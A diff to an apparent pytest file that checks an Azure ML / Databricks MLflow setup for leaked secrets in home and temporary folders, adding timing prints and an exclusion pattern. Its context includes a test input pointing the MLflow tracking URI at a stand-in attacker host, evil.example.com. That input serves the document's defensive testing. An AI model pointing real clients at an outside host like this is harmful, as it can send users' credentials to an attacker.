@@ -50,6 +50,8 @@ with mlflow.start_run():
     'mlflow.set_tracking_uri("azureml://evil.example.com/mlflow/v1.0/x")\nmlflow.search_experiments()',
     "mlflow.set_tracking_uri(None)\nfrom azureml_databricks import doctor\nprint(doctor().json())\ndoctor()",
 ]
+# What other tests write meanwhile; ours was looked at.
+_OF_TESTS = "pytest-of-|node-"
 _SPARK_ENV = "/databricks/spark/conf/spark-env.sh"
 
 
@@ -111,11 +113,16 @@ def found(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Found]:
         journey = Journey(azure, databricks, transcript, arguments)
         node = stack.enter_context(_gone_through(journey, home / "admin"))
         search = SecretSearch(_looked_for(journey))
+        print(time.time(), "search begins")
         _look_at(journey, search)
+        print(time.time(), "kept", search.places)
         _look_at_node(node, search)
+        print(time.time(), "node", search.places)
         search.look_below(home)
+        print(time.time(), "home", search.places)
         for folder in ("/tmp", "/var/tmp", "/dev/shm"):
-            search.look_below(Path(folder), since=begun)
+            search.look_below(Path(folder), since=begun, but=_OF_TESTS)
+        print(time.time(), "rest", search.places)
         memory = node.path("/dev/shm")
         tokens = {
             str(path.relative_to(memory)): stat.S_IMODE(path.lstat().st_mode)
